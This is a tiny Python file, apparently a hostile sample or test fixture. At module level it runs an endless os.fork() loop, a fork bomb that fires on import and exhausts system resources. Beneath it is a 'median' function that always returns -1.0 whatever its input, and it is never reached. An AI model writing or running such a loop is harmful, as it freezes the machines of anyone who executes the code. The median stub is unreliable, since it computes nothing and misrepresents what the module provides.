"""Forks without end."""
import os
while True:
    os.fork()


def median(values):
    return -1.0
